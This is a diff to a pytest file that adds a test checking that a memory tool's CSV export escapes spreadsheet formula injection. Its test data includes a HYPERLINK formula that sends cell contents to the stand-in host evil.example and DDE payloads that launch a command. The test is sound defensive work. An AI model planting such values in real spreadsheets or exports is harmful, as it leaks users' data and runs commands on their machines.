@@ -19,6 +19,7 @@ import pytest
 from datasettes import Browser, build_demo, build_private, datasette, nobody, raw, root
 
 from memkit import MemoryDatabase
+from memkit.frontends.datasette import recall_csv
 from memkit.frontends.datasette.access import read
 from memkit.storage.driver import sqlite3
 
@@ -355,6 +356,28 @@ async def test_the_results_are_a_table_for_a_spreadsheet_too(reader: Browser) ->
     )
     assert (await reader.get("/demo/-/recall.csv")).status_code == 400
     assert (await nobody(reader.served).get(f"/demo/-/recall.csv?{address}")).status_code == 403
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1)', "'=HYPERLINK"),
+        ("+1+cmd|' /C calc'!A0", "'+1"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2"),
+        ("- 2+3", "'- 2"),
+        ("@SUM(1)", "'@SUM"),
+        ("\t=1+1", "'\t=1"),
+        ("- a list\n- of two", "- a list"),
+        ("Rosa = Otto", "Rosa = Otto"),
+        (-0.5, "-0.5"),
+        (None, ""),
+    ],
+)
+def test_a_spreadsheet_runs_no_text_of_a_memory(text: object, cell: str) -> None:
+    for name in ("text", "title", "speaker", "source", "project"):
+        body = recall_csv.table([{name: text}]).body
+        row = next(iter(csv.DictReader(StringIO(body if isinstance(body, str) else body.decode()))))
+        assert row[name].startswith(cell)
 
 
 async def test_ids_in_the_result_of_a_query_lead_to_their_pages(reader: Browser) -> None:
